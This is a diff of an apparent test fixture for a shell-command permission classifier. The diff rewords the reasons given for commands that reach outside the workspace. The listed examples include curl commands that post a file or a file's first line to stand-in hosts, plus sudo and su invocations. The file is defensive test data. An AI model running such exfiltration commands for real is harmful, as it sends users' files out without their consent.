@@ -1,6 +1,6 @@
 import type { Row } from "./rows.ts";
 
-/** Commands that reach beyond the workspace, and programs that are not known. */
+/** Commands that reach beyond the workspace, and unknown programs. */
 export const outward: readonly Row[] = [
   {
     expected: "ask always",
@@ -36,7 +36,7 @@ export const outward: readonly Row[] = [
   },
   {
     expected: "ask always",
-    reason: "sends data out, or reaches what is no public page",
+    reason: "sends data out, or reaches an address that is not a public page",
     commands: [
       "curl -d @notes https://example.com",
       "curl -dfoo=bar https://e.com",
@@ -65,7 +65,7 @@ export const outward: readonly Row[] = [
   },
   {
     expected: "ask never",
-    reason: "sends out what only running tells",
+    reason: "sends data that is only known at run time",
     commands: [
       'curl "http://h.example/?q=$(head -1 F)"',
       'curl "https://h.example/?q=$(head -1 F)"',
@@ -127,7 +127,7 @@ export const outward: readonly Row[] = [
   },
   {
     expected: "ask always",
-    reason: "takes another user's rights",
+    reason: "changes the user",
     commands: [
       "sudo ls",
       "su -c ls",
@@ -146,7 +146,7 @@ export const outward: readonly Row[] = [
   },
   {
     expected: "ask always",
-    reason: "a program that stands in no table: a grant is for it alone",
+    reason: "an unknown program: a grant covers that program only",
     commands: [
       "terraform-docs markdown .",
       "unknown-tool --flag",
@@ -158,7 +158,7 @@ export const outward: readonly Row[] = [
   },
   {
     expected: "ask session",
-    reason: "an unknown program that may start another one: a grant is for the same words alone",
+    reason: "an unknown program that may start another one: a grant covers the same words only",
     commands: ["unknown-tool rm x", "unknown-tool 'echo x; ls'", "unknown-tool bash x.sh"],
   },
   {
@@ -195,7 +195,7 @@ export const outward: readonly Row[] = [
   },
   {
     expected: "ask never",
-    reason: "writes to a place that only running tells",
+    reason: "writes to a path that is only known at run time",
     commands: [
       "echo x > $X",
       "cd $X && echo x > y",
